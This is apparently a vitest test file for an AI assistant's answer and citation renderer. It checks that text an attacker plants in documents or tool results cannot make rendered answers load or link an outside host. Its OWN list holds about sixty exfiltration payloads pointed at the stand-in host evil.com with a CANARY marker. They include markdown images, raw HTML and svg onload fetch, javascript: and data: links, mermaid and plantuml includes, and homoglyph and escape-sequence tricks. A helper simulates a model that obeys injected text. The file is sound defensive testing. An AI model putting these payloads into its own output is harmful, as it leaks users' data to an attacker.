/**
 * What an attacker can make documents and answers say, through everything an assistant is given. Judged by a renderer of
 * another maker with HTML on and its widest linkifier, and by the text itself.
 */
import { readFileSync } from "node:fs";
import { emptyAnswer, linksOf, reduce, type Answer } from "@threadlore/ask";
import type { Packet } from "@threadlore/client/models";
import { sharedFolder } from "@threadlore/testkit";
import MarkdownIt from "markdown-it";
import { describe, expect, it } from "vitest";
import { answerText } from "./answer-text.ts";
import { knownAddresses, quotedLine, quotedText } from "./quoted-text.ts";
import { citedSources, sourceLines } from "./sources.ts";

const CITED = "https://docs.ok.test/a";
const renderer = new MarkdownIt({ html: true, linkify: true });

const EVIL = "https://evil.com/x?d=CANARY";

/** Made for results of tools: what the vectors beside the repository do not try. */
const OWN: readonly string[] = [
  `![](${EVIL})`,
  `![a]( <${EVIL}> "t")`,
  `\\![a](${EVIL})`,
  `\\\\![a](${EVIL})`,
  `\\\\\\![a](${EVIL})`,
  `!\\[a](${EVIL})`,
  `[a\\](${EVIL})`,
  `[a\\\\](${EVIL})`,
  `[[1]](${EVIL})`,
  `[1](${EVIL})`,
  `[1]\n\n[1]: ${EVIL}`,
  `[1]:${EVIL}`,
  `  [a]:\n   ${EVIL}\n\n[a]`,
  `> [a]: ${EVIL}\n\n[a]`,
  `- [a]: ${EVIL}\n\n![a]`,
  `<${EVIL}>`,
  `\\<${EVIL}>`,
  `\\\\<img src=${EVIL}>`,
  `<!--><img src=${EVIL}>-->`,
  `<![CDATA[<img src=${EVIL}>]]>`,
  `<?x <img src=${EVIL}> ?>`,
  `< img src=${EVIL}>`,
  `<IMG\nSRC=${EVIL}>`,
  `<svg onload="fetch('${EVIL}')">`,
  '```mermaid\ngraph TD\nclick A "https://evil.com/x?d=CANARY"\n```',
  "> ```mermaid\n> graph TD\n> ```",
  "1. ~~~MERMAID {a}\n   graph TD\n   ~~~",
  "``` plantuml\n!include https://evil.com/x?d=CANARY\n```",
  "````md\n```\n````\n![a](https://evil.com/x?d=CANARY)",
  "`unclosed ![a](https://evil.com/x?d=CANARY)",
  "| a | b |\n|---|---|\n| ` | ![a](https://evil.com/x?d=CANARY) ` |",
  "www.evil.com/x?d=CANARY",
  "evil.com/x?d=CANARY",
  "//evil.com/x?d=CANARY",
  "HTTPS://EVIL.COM/x?d=CANARY",
  "https:\u200b//evil.com/x?d=CANARY",
  "ht\u00adtps://evil.com/x?d=CANARY",
  "https://docs.ok.test@evil.com/x?d=CANARY",
  "https://docs.ok.test.evil.com/x?d=CANARY",
  "https://docs.ok.test/a?next=https://evil.com/x?d=CANARY",
  "https://docs.ok.test/a/../x?d=CANARY-evil.com",
  "ftp://evil.com/x?d=CANARY",
  "wss://evil.com/x?d=CANARY",
  "&#104;ttps://evil.com/x?d=CANARY",
  "https&colon;//evil.com/x?d=CANARY",
  "https&#58;&#47;&#47;evil.com/x?d=CANARY",
  "[a](javascript:fetch('https://evil.com/x?d=CANARY'))",
  "[a](data:text/html,<script src=https://evil.com/x?d=CANARY>)",
  "$\\href{https://evil.com/x?d=CANARY}{a}$",
  "\\[\\includegraphics{https://evil.com/x?d=CANARY}\\]",
  "*[a](https://evil.com/x?d=CANARY)*",
  "**ht**tps://evil.com/x?d=CANARY",
  "[a][b]\n\n[b]: https://evil.com/x?d=CANARY 'x'",
  "[![a][i]](https://docs.ok.test/a)\n\n[i]: https://evil.com/x?d=CANARY",
  "\u202ehttps://evil.com/x?d=CANARY",
  "\u001b]8;;https://evil.com/x?d=CANARY\u001b\\a\u001b]8;;\u001b\\",
  "https://xn--evl-gma.com/x?d=CANARY https://еvil.com/x?d=CANARY",
  `[${CITED}](${EVIL})`,
  `[1]: https://docs.ok.test/a\n[x]: https://evil.com/x?d=CANARY\n[x]`,
];

function ofShared(): string[] {
  const folder = sharedFolder("vectors");
  if (folder === undefined) return [];
  const { vectors } = JSON.parse(readFileSync(`${folder}/exfil-vectors.json`, "utf8")) as {
    vectors: { text: string }[];
  };
  return vectors.map(({ text }) => text);
}

const VECTORS = [...OWN, ...ofShared()];

/** What a renderer would load, open or draw of a text. */
function dangersIn(markdown: string): string[] {
  const html = renderer.render(markdown);
  const tags = [...html.matchAll(/<([a-z!?][^\s>/]*)([^>]*)>/gi)];
  const allowed = /^(p|h[1-6]|pre|code|blockquote|ul|ol|li|table|thead|tbody|tr|th|td|hr|br|em|strong|s|a)$/;
  return [
    ...tags.flatMap(([tag, name = ""]) => (allowed.test(name) ? [] : [tag])),
    ...tags.flatMap(([tag, name, attributes = ""]) => {
      if (name === "a")
        return [CITED, `${CITED}"`].some((link) => attributes.includes(`href="${link}"`) || link === attributes)
          ? []
          : [tag];
      return /class="language-(?:mermaid|plantuml|math|dot|svg)|(?:src|href|style|on\w+)=/i.test(attributes)
        ? [tag]
        : [];
    }),
    // A terminal makes links of these without any renderer.
    ...(markdown.match(/\b(?:https?|ftp|wss?):\/\/[^\s\]\\]*/gi) ?? []).filter(
      (url) => !url.startsWith(CITED) || /evil|CANARY/.test(url),
    ),
    // oxlint-disable-next-line no-control-regex -- control characters are what is looked for
    ...(markdown.match(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u200b\u202a-\u202e\u{e0000}-\u{e007f}]/gu) ?? []),
  ];
}

/** An answer whose model says exactly what an attacker wants, and cites a document with such a title. */
function obedient(text: string, title: string): Answer {
  const placement = { turn_index: 0, tab_index: 0 };
  const document = { document_id: "a", semantic_identifier: title, link: CITED, blurb: text, source_type: "web" };
  const packets = [
    { placement, obj: { type: "message_start", final_documents: [document] } },
    { placement, obj: { type: "citation_info", citation_number: 1, document_id: "a" } },
    { placement, obj: { type: "message_delta", content: `${text}\n\nSee [[1]](${CITED}).` } },
    { placement, obj: { type: "stop" } },
  ];
  return (packets as unknown as Packet[]).reduce(reduce, emptyAnswer());
}

it("every vector beside the repository is tried, or it is said that they are missing", () => {
  if (sharedFolder("vectors") === undefined) console.warn("vectors of ../shared are absent: only our own were tried");
  expect(OWN.length).toBeGreaterThanOrEqual(30);
});

describe("an attacker's words", () => {
  it("are dangerous as they are: the judge sees it", () => {
    const seen = VECTORS.filter((text) => dangersIn(text).length > 0);
    expect(seen.length).toBeGreaterThan(VECTORS.length * 0.8);
  });

  it.each(VECTORS)("load and link nothing in an answer: %j", (text) => {
    const answer = obedient(text, "Handbook");
    const said = answerText(answer.blocks, linksOf(answer));
    expect(dangersIn(said)).toEqual([]);
    expect(dangersIn(`${said}\n\n${sourceLines(citedSources(answer.citations))}`)).toEqual([]);
  });

  it.each(VECTORS)("load and link nothing in a passage or a document: %j", (text) => {
    expect(dangersIn(quotedText(text, knownAddresses([{ link: CITED }])))).toEqual([]);
  });

  it.each(VECTORS)("load and link nothing in a title: %j", (text) => {
    const answer = obedient("Fine.", text);
    expect(dangersIn(quotedLine(text))).toEqual([]);
    expect(dangersIn(sourceLines(citedSources(answer.citations)))).toEqual([]);
  });
});

describe("what a document says", () => {
  it("stays readable: its own link, prose, code and tables are as they were", () => {
    const text = `# Leave\n\nSee ${CITED}, a_b and 1 < 2 & 3.\n\n\`\`\`ts\nconst a = [1, 2](x);\n\`\`\`\n\n| a | b |\n| - | - |\n| 1 | 2 |`;
    const shown = quotedText(text, knownAddresses([{ link: CITED }]));
    expect(shown).toBe(text.replace("](x)", "]\\(x)"));
  });

  it("keeps every script", () => {
    const text = "年次有給休暇は28日です。 الإجازة ٢٨ يومًا. Отпуск 28 дней. छुट्टी 28 दिन। 🫖🏽";
    expect(quotedText(text, () => false)).toBe(text);
    const answer = obedient(text, "休暇");
    expect(answerText(answer.blocks, linksOf(answer))).toBe(`${text}\n\nSee [1].`);
  });
});
